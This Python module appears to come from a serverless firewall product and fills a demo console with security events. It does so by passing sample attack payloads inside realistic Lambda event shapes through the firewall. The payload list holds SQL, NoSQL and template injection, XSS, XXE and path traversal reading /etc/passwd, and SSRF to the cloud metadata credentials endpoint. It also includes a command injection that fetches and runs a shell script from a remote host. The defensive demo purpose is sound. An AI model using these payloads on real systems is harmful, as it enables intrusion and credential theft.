"""Demo data made by hullguard itself, so a newcomer sees a populated console without AWS.

``seed(database_url_or_data_dir)``:

- attacks: real Lambda event shapes (API Gateway, SQS, S3) carrying sample payloads go through
  ``hullguard.firewall.Firewall().inspect``; each finding of each verdict becomes a security event,
  spread over the last seven days. A sample the firewall does not flag is stored as an *allowed*
  event marked ``detail.demo_note`` so a gap is visible, never hidden.
- posture: the bundled ``examples/vulnerable`` application goes through the scanner's loaders and
  rules (when the scanner and the example are present), twice, to show a trend.
- inventory: the scanned functions plus a few deployed ones across two accounts and regions, some
  unprotected; a policy for one function.
"""

from __future__ import annotations

import copy
import random
import secrets
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from sqlalchemy import func, select
from sqlalchemy.orm import Session

from hullguard.console import migrate
from hullguard.console.accounts import audit, create_user
from hullguard.console.db import make_engine, make_sessionmaker
from hullguard.console.ingest import event_row, store_events, store_inventory, store_posture
from hullguard.console.models import User
from hullguard.console.policies import DEFAULT_POLICY, save_policy
from hullguard.console.security import now_ms
from hullguard.console.settings import Limits, database_url_for, normalise_database_url
from hullguard.events.schema import Action, FunctionContext, SecurityEvent, Severity

DAY_MS = 24 * 3600 * 1000
EXAMPLE_APP = Path(__file__).resolve().parents[3] / "examples" / "vulnerable"

# (function, account, region, runtime, protected)
FLEET = [
    ("orders-api", "111111111111", "eu-west-1", "python3.12", True),
    ("thumbnail", "111111111111", "eu-west-1", "python3.12", True),
    ("payments", "222222222222", "us-east-1", "python3.11", True),
    ("reports-export", "222222222222", "us-east-1", "python3.9", False),
    ("legacy-cron", "111111111111", "eu-central-1", "nodejs18.x", False),
]

# (function, trigger builder, payload, attack class it carries)
ATTACKS: list[tuple[str, str, str, str]] = [
    ("orders-api", "apigw-query", "1' UNION SELECT username, password FROM users--", "sqli"),
    ("orders-api", "apigw-body", "<script>alert(document.cookie)</script>", "xss"),
    ("orders-api", "apigw-body", '<img src=x onerror="alert(1)">', "xss"),
    ("orders-api", "apigw-query", "../../../../etc/passwd", "path-traversal"),
    ("orders-api", "apigw-body", "{{7*7}}{{config.__class__.__init__.__globals__}}", "ssti"),
    ("payments", "apigw-body", "; curl http://198.51.100.7/x.sh | sh", "cmdi"),
    ("payments", "apigw-query", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "ssrf"),
    ("payments", "sqs", '{"user": {"$ne": null}, "password": {"$gt": ""}}', "nosql"),
    ("thumbnail", "s3", "uploads/../../var/task/handler.py", "path-traversal"),
    (
        "thumbnail",
        "sqs",
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        "xxe",
    ),
]


def _api_gateway(path_param: str, payload: str, where: str) -> dict[str, Any]:
    event: dict[str, Any] = {
        "resource": "/orders/{id}",
        "path": "/orders/42",
        "httpMethod": "POST" if where == "body" else "GET",
        "headers": {"Content-Type": "application/json", "User-Agent": "curl/8.5.0"},
        "queryStringParameters": None,
        "pathParameters": {"id": "42"},
        "requestContext": {
            "resourcePath": "/orders/{id}",
            "httpMethod": "GET",
            "stage": "prod",
            "requestId": "c6af9ac6-7b61-11e6-9a41-93e8deadbeef",
            "identity": {"sourceIp": "203.0.113.9"},
        },
        "body": None,
        "isBase64Encoded": False,
    }
    if where == "body":
        event["body"] = '{"comment": ' + _json_string(payload) + "}"
    else:
        event["queryStringParameters"] = {path_param: payload}
    return event


def _json_string(text: str) -> str:
    import json

    return json.dumps(text)


def _sqs(payload: str) -> dict[str, Any]:
    return {
        "Records": [
            {
                "messageId": "059f36b4-87a3-44ab-83d2-661975830a7d",
                "body": payload,
                "eventSource": "aws:sqs",
                "awsRegion": "us-east-1",
                "eventSourceARN": "arn:aws:sqs:us-east-1:222222222222:jobs",
                "attributes": {},
                "messageAttributes": {},
                "md5OfBody": "",
                "receiptHandle": "AQEB",
            }
        ]
    }


def _s3(key: str) -> dict[str, Any]:
    return {
        "Records": [
            {
                "eventVersion": "2.1",
                "eventSource": "aws:s3",
                "awsRegion": "eu-west-1",
                "eventName": "ObjectCreated:Put",
                "s3": {
                    "bucket": {"name": "thumbnails-in", "arn": "arn:aws:s3:::thumbnails-in"},
                    "object": {"key": key, "size": 1024},
                },
            }
        ]
    }


def attack_event(kind: str, payload: str) -> dict[str, Any]:
    if kind == "apigw-query":
        return _api_gateway("id", payload, "query")
    if kind == "apigw-body":
        return _api_gateway("id", payload, "body")
    if kind == "sqs":
        return _sqs(payload)
    return _s3(payload)


def _context(name: str, rng: random.Random) -> FunctionContext:
    account, region = next((a, r) for f, a, r, _, _ in FLEET if f == name)
    return FunctionContext(
        name=name,
        version="$LATEST",
        request_id=f"{rng.getrandbits(64):016x}-demo",
        arn=f"arn:aws:lambda:{region}:{account}:function:{name}",
        region=region,
    )


def firewall_events(rounds: int = 6, now: int | None = None, seed: int = 7) -> list[SecurityEvent]:
    """Run every attack sample through the firewall ``rounds`` times, at times spread over a week."""
    from hullguard.firewall import Firewall

    now = now_ms() if now is None else now
    rng = random.Random(seed)  # noqa: S311 - reproducible demo data, not a secret
    firewall = Firewall()
    events: list[SecurityEvent] = []
    for _ in range(rounds):
        for name, kind, payload, attack in ATTACKS:
            lambda_event = attack_event(kind, payload)
            verdict = firewall.inspect(copy.deepcopy(lambda_event))
            context = _context(name, rng)
            stamp = now - rng.randint(0, 7 * DAY_MS - 60_000)
            trigger = verdict.trigger if verdict.trigger != "unknown" else kind.split("-")[0]
            if not verdict.findings:
                events.append(
                    SecurityEvent(
                        source="firewall",
                        rule_id="HG-DEMO-UNDETECTED",
                        title=f"sample {attack} payload not flagged",
                        severity=Severity.INFO,
                        action=Action.ALLOWED,
                        attack=attack,
                        location="",
                        evidence=payload,
                        trigger=trigger,
                        function=context,
                        time_ms=stamp,
                        uid=f"demo-{rng.getrandbits(64):016x}",
                        detail={"demo_note": "the firewall raised no finding for this demo sample"},
                    )
                )
                continue
            for finding in verdict.findings:
                events.append(
                    SecurityEvent(
                        source="firewall",
                        rule_id=finding.rule_id,
                        title=finding.title or finding.attack,
                        severity=finding.severity,
                        action=Action.BLOCKED if verdict.blocked else Action.ALERTED,
                        attack=finding.attack,
                        location=finding.location,
                        evidence=finding.evidence,
                        trigger=trigger,
                        cold_start=rng.random() < 0.1,
                        function=context,
                        cwe=finding.cwe,
                        detail={
                            "policy": {"mode": "block" if verdict.blocked else "alert"},
                            "finding_detail": finding.detail,
                            "record": finding.record,
                            "duration_us": round(verdict.duration_us, 1),
                        },
                        time_ms=stamp,
                        uid=f"demo-{rng.getrandbits(64):016x}",
                    )
                )
    return events


@dataclass
class ScanResult:
    application: str
    functions: list[dict[str, Any]] = field(default_factory=list)
    findings: list[dict[str, Any]] = field(default_factory=list)


def scan_example(root: Path = EXAMPLE_APP) -> list[ScanResult]:
    """Findings and functions of the bundled example app, from the scanner; [] when unavailable."""
    try:
        from hullguard.scanner.engine import evaluate
        from hullguard.scanner.loaders import load_applications
    except ImportError:
        return []
    if not root.is_dir():
        return []
    loaded = load_applications(root)
    findings = evaluate(loaded.applications, root)
    results = []
    for app in loaded.applications:
        result = ScanResult(application=app.name)
        for fn in app.functions:
            result.functions.append(
                {
                    "name": str(fn.name if isinstance(fn.name, str) else fn.logical_id),
                    "version": "$LATEST",
                    "account": "",
                    "region": str(app.region) if isinstance(app.region, str) else "",
                    "runtime": str(fn.runtime) if isinstance(fn.runtime, str) else "",
                    "protected": bool(fn.protected),
                    "application": app.name,
                    "last_deployed": "",
                    "arn": "",
                    "executions": 0,
                    "source": "scan",
                }
            )
        result.findings = [f.to_dict() for f in findings if f.application in ("", app.name)]
        results.append(result)
    return results


@dataclass
class SeedSummary:
    events: int
    functions: int
    scans: int
    findings: int
    firewall_flagged: int
    login: tuple[str, str] | None = None  # (user, password) of the demo admin, when this run created it

    def describe(self) -> str:
        text = (
            f"seeded {self.events} events ({self.firewall_flagged} flagged by the firewall), "
            f"{self.functions} functions, {self.scans} scans with {self.findings} findings"
        )
        if self.login:
            text += (
                f"\nlog in as {self.login[0]!r} with password {self.login[1]!r} (shown once; change it on /admin/users)"
            )
        return text


def _posture_rows(findings: list[dict[str, Any]]) -> list[dict[str, Any]]:
    from hullguard.console.ingest import validate_posture

    _app, _source, rows = validate_posture({"application": "x", "source": "scan", "findings": findings}, Limits())
    return rows


def seed(target: str | Path) -> SeedSummary:
    """Fill the console at ``target`` (a database URL, or a data directory for SQLite)."""
    text = str(target)
    url = normalise_database_url(text) if "://" in text else database_url_for(Path(text))
    if "://" not in text:
        Path(text).mkdir(parents=True, exist_ok=True)
    engine = make_engine(url)
    migrate.upgrade(engine)
    sessions = make_sessionmaker(engine)
    now = now_ms()
    events = firewall_events(now=now)
    scans = scan_example()
    stamp_iso = "2026-11-20T10:00:00Z"
    fleet = [
        {
            "name": n,
            "version": "7",
            "account": a,
            "region": r,
            "runtime": rt,
            "protected": p,
            "application": "demo-shop",
            "last_deployed": stamp_iso,
            "arn": f"arn:aws:lambda:{r}:{a}:function:{n}",
            "executions": 1000 + 137 * i,
            "source": "audit",
        }
        for i, (n, a, r, rt, p) in enumerate(FLEET)
    ]
    findings_total = 0
    with sessions() as session, session.begin():
        rows = [event_row(i, e.to_dict(), now) for i, e in enumerate(events)]
        store_events(session, rows)
        store_inventory(session, fleet + [f for s in scans for f in s.functions])
        for scan in scans:
            rows_posture = _posture_rows(scan.findings)
            # An older scan with one more copy of the findings shows the trend going down after fixes.
            older = rows_posture + rows_posture[: len(rows_posture) // 2]
            store_posture(session, scan.application, "scan", older, created_ms=now - 3 * DAY_MS)
            store_posture(session, scan.application, "scan", rows_posture, created_ms=now)
            findings_total += len(rows_posture)
        save_policy(session, "orders-api", DEFAULT_POLICY, "demo")
        login = _demo_admin(session)
    engine.dispose()
    return SeedSummary(
        events=len(events),
        functions=len(fleet) + sum(len(s.functions) for s in scans),
        scans=2 * len(scans),
        findings=findings_total,
        firewall_flagged=sum(1 for e in events if e.action is not Action.ALLOWED),
        login=login,
    )


def _demo_admin(session: Session) -> tuple[str, str] | None:
    """A console nobody can log in to is no demo: create an admin with a random password, once."""
    if session.scalar(select(func.count()).select_from(User)):
        return None
    password = secrets.token_urlsafe(12)
    create_user(session, "demo", password, "admin")
    audit(session, "seed-demo", "user-create", "demo", "role admin")
    return "demo", password
